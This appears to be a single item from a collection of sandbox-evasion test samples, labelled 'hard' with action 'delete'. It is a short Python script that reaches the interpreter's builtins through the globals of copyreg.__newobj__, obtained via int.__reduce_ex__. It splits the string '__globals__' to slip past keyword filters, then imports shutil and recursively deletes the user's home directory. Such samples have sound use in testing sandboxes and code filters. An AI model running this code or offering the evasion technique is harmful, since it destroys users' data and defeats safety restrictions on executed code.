# evasion: builtins reached through the globals of the function that int.__reduce_ex__ returns (copyreg.__newobj__)
# grade: hard; does: delete
newobj = (1).__reduce_ex__(2)[0]
b = getattr(newobj, "__glob" + "als__")["__builtins__"]
imp = b["__import__"]
home = imp("os").path.expanduser("~")
imp("shutil").rmtree(home, ignore_errors=True)
